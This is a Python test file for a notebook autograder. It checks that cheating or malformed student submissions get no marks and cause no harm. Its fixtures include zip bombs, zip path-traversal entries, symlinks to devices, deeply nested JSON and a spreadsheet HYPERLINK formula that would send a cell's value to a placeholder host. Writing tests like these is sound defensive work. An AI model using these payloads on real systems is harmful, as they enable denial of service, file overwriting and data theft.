"""No cheat pays, none does harm: the table of cheats, each with its mark."""

import contextlib
import csv
import http.server
import io
import json
import os
import threading
import zipfile

import nbformat
import pytest

from assignments import _grade, _run, _tasks
from cnnlib.grading import _check
from tests.assignments import cheats
from tests.assignments.conftest import SEED, grade, put, running

pytestmark = pytest.mark.usefixtures("wall")
TASK = "frame_correlate"
SEARCHES = [  # cheats that print what they found
    "the right answers looked for on the disk",
    "files of the machine read",
    "links to what is outside",
    "the process beside it written into",
]


@contextlib.contextmanager
def listening():
    """A server on this machine: its port, and what it was asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

    with http.server.HTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port, asked
        server.shutdown()


def known_cases(variant):
    """What the visible check tries: inputs and right results, as text."""
    import numpy as np

    exercise = _check._exercise(TASK)
    return [
        (arguments["x"].tolist(), arguments["w"].tolist(), right.tolist())
        for seed in _check.SEEDS
        for arguments, right in _check.drawn(exercise, np.random.default_rng(seed), variant)
    ]


LONG_HEADING = {"cell_type": "heading", "level": 10**10, "source": "x", "metadata": {}}


def old(cells):
    """A notebook of the format 3, of 2014."""
    sheet = {"metadata": {}, "cells": list(cells)}
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [sheet]}


def old_cell(cell):
    text = "input" if cell["cell_type"] == "code" else "source"
    return {"cell_type": cell["cell_type"], text: cell["source"].splitlines(keepends=True)}


def write_files(folder, solved, names):
    """Submissions whose file is the cheat: their points, by student."""
    right = nbformat.writes(solved("convolution")).encode()

    def hand_in(student, data=None, name="x.ipynb"):
        (folder / student).mkdir()
        if data is not None:
            (folder / student / name).write_bytes(data)
        return folder / student / name

    def zipped(*members):
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as parts:
            for name, content in members:
                parts.writestr(name, content)
        return data.getvalue()

    hand_in("ann", right)
    hand_in("link to ann's file").symlink_to(folder / "ann" / "x.ipynb")
    hand_in("link to a device").symlink_to("/dev/zero")
    os.mkfifo(hand_in("pipe without end"))
    with hand_in("200 MB").open("wb") as file:
        file.write(right)
        file.truncate(200 * 2**20)
    hand_in("zip bomb", zipped(("x.ipynb", bytes(300 * 2**20))), "x.zip")
    hand_in("zip with a way out", zipped(("../../ann/x.ipynb", right)), "x.zip")
    hand_in("zip with an absolute path", zipped(("/tmp/stolen.ipynb", right)), "x.zip")
    hand_in("zip with two", zipped(("a.ipynb", right), ("b.ipynb", right)), "x.zip")
    hand_in("no zip", b"PK\x03\x04 no more", "x.zip")
    hand_in("invalid JSON", right[:-100])
    hand_in("JSON without an end", b'{"cells":' + b"[" * 10**6)
    hand_in("no notebook", b'{"nbformat": 4, "cells": [1, 2], "metadata": null}')
    hand_in("empty", b"")
    many = solved("convolution")
    many.cells += [nbformat.v4.new_code_cell("1") for _ in range(1000)]
    hand_in("a thousand cells", json.dumps(many).encode())
    long = solved("convolution")
    long.cells.append(nbformat.v4.new_code_cell("1 + " * 10**6 + "1"))
    hand_in("a cell of 4 MB", nbformat.writes(long).encode())
    other = json.loads(right)
    other["metadata"]["kernelspec"] = {"name": "ir", "language": "R", "display_name": "R"}
    hand_in("says it is R", json.dumps(other).encode())
    for one in other["cells"]:
        if one["cell_type"] == "code":
            one["source"] = "by_hand <- c(1, 2)\nframe_correlate <- function(x, w) { x }\n"
    hand_in("is R", json.dumps(other).encode())
    odd = json.loads(right)
    odd["cells"][0] |= {"metadata": {"nbgrader": [1]}, "id": 7, "attachments": 3}
    odd["metadata"] = {"cnnlib": {"assignment": ["x"], "seed": {}}, "kernelspec": {}}
    odd["cells"].append({"cell_type": "code", "source": "'\ud800'", "metadata": {}})
    hand_in("odd metadata", json.dumps(odd).encode())
    hand_in("a heading of a gigabyte", json.dumps(old([LONG_HEADING])).encode())
    trap = solved("convolution")
    trap.cells = [one for one in trap.cells if not one.metadata.nbgrader.locked]
    trap.cells.append(nbformat.v4.new_markdown_cell("a b " * 20_000))
    hand_in("cells like no other", json.dumps(trap).encode())
    swollen = json.loads(right)
    swollen["cells"][0]["metadata"] = {"nbgrader": {"grade_id": [{}] * 1_000_000}}
    hand_in("metadata that swells", json.dumps(swollen).encode())
    hand_in("\u674e" * 80, right)  # 240 bytes
    # And honest ones that are odd.
    checkpoint = ".ipynb_checkpoints/x-checkpoint.ipynb"
    hand_in("zip of a folder", zipped(("a/x.ipynb", right), (f"a/{checkpoint}", right)), "x.zip")
    hand_in("capital letters", right, "X.IPYNB")
    hand_in("with a byte order mark", b"\xef\xbb\xbf" + right)
    bare = json.loads(right) | {"metadata": None}
    for one in bare["cells"]:
        one["metadata"] = None
        one["source"] = "".join(one["source"]).replace("\n\n", "\n\f\n")
    hand_in("no metadata", json.dumps(bare).encode())
    hand_in("version 3", json.dumps(old(map(old_cell, bare["cells"]))).encode())
    full = {"cells like no other", "metadata that swells", "\u674e" * 80, "zip of a folder"}
    full |= {"capital letters", "with a byte order mark", "no metadata", "version 3"}
    full |= {"ann", "zip with a way out", "zip with an absolute path", "says it is R"}
    full.add("odd metadata")
    students = [path.name for path in folder.iterdir() if path.name not in names]
    return {name: cheats.ALL if name in full else cheats.NOTHING for name in students}


# Shorter than a teacher's; a machine with other work keeps them.
LIMITS = _run.Limits(cell=8, whole=40)


def submitted(source, name, port):
    """The notebook of the cheat of that name."""
    notebook = source("convolution")
    variant = _tasks.load(TASK).variant(SEED)
    if name in cheats.CELLS:
        text = cheats.CELLS[name][0].replace("PORT", str(port)).replace("VARIANT", repr(variant))
        put(notebook, TASK, text.replace("KNOWN", repr(known_cases(variant))))
    else:
        put(notebook, TASK, cheats.WRONG)
        next(edit for edit in cheats.EDITS if edit.__name__ == name)(notebook)
    return notebook


def test_no_cheat_pays(courses, solved, tmp_path, record_property):
    expected = {name: points for name, (_, points) in cheats.CELLS.items()}
    expected |= {edit.__name__: cheats.HONEST for edit in cheats.EDITS}
    with listening() as (port, asked):
        for name in expected:
            (tmp_path / name).mkdir()
            text = json.dumps(submitted(solved, name, port))
            (tmp_path / name / "x.ipynb").write_text(text, encoding="utf-8")
        expected |= write_files(tmp_path, solved, set(expected))
        rows = grade(tmp_path, courses("convolution"), limits=LIMITS)
    assert asked == []
    found = {row["student"]: row for row in rows.values()}
    lines = []
    for name, points in expected.items():
        row = found[_grade._collect._student(name)]
        lines.append(f"{name:45} {points:3} expected, {row['total']:>3} given  {row['notes'][:60]}")
    record_property("cheat, mark expected, mark given", "\n".join(lines))
    wrong = [line for line, (name, points) in zip(lines, expected.items(), strict=True)
             if float(found[_grade._collect._student(name)]["total"]) != points]  # fmt: skip
    assert wrong == []
    feedback = courses("convolution") / "marks" / "convolution" / "feedback"
    for name in SEARCHES:
        page = feedback / f"{_grade._collect._student(name)}.html"
        assert "found []" in page.read_text(encoding="utf-8"), name
    assert not any("8642.1975" in words for words in running())


def test_a_recognised_check_says_right_and_gives_nothing(solved):
    """The cheat above does deceive the check that students see; the marks come from elsewhere."""
    variant = _tasks.load(TASK).variant(SEED)
    names = {}
    notebook = submitted(solved, "the visible check's inputs recognised", 0)
    (source,) = [c.source for c in notebook.cells if c.source.startswith("\nknown")]
    exec("import numpy as np\n" + source, names)
    assert _check._result(TASK, names[TASK], variant, 5).ok


@pytest.mark.parametrize(
    ("path", "student"),
    [
        ("Eve_2_assignsubmission_file_Bob_3_assignsubmission_file_x.ipynb", "2"),
        ("eve_2_77_Bob_3_assignsubmission_file_x.ipynb", "2"),
        ("eve_2_77_bob_3_99_x.ipynb", "2"),
        ("Task 1_eve_attempt_2026-10-05-14-33-12_bob_attempt_2027-01-01-00-00-00_x.ipynb", "eve"),
        ("Task 1_eve_attempt_2026-10-05-14-33-12_bob_3_99_x.ipynb", "eve"),
        ("Eve E_2_assignsubmission_file_/a/b/3.ipynb", "2"),
        ("Eve E_2_assignsubmission_file_/Bob_3_assignsubmission_file_/x.ipynb", "2"),
        ("eve/convolution/a/bob.ipynb", "eve"),
        ("eve/bob/convolution/bob.ipynb", "eve"),
    ],
)
def test_nobody_hands_in_for_another(tmp_path, path, student):
    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / path).touch()
    found, _ = _grade._collect.submissions(tmp_path)
    assert list(found) == [student]


def test_different_students_stay_different(tmp_path):
    names = ["Ann Lee", "Ann_Lee", "Ann?Lee", "Ann*Lee", ".Ann Lee", "A" * 120, "A" * 119, "\u674e"]
    for name in names:
        (tmp_path / "x" / name).mkdir(parents=True)
        (tmp_path / "x" / name / "x.ipynb").touch()
    found, _ = _grade._collect.submissions(tmp_path / "x")
    assert len(found) == len(names) - 1  # what is hidden is not looked at
    assert all(len(f"{student}.html.partial".encode()) < 255 for student in found)


def test_a_formula_in_an_answer_is_text(courses, solved, tmp_path):
    notebook = solved("convolution")
    (cell,) = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("points") == 5]
    cell.source = 'So:\n=HYPERLINK("http://x.example/"&A1);+1\n\t-1\n\uff1d1'
    (tmp_path / "eve").mkdir()
    nbformat.write(notebook, tmp_path / "eve" / "x.ipynb")
    grade(tmp_path, courses("convolution"))
    path = courses("convolution") / "marks" / "convolution" / "manual.csv"
    with path.open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    began = [line.lstrip()[:2] for line in row["answer"].replace(";", "\n").split("\n")]
    assert began == ["So", "'=", "'+", "'-", "'\uff1d"]
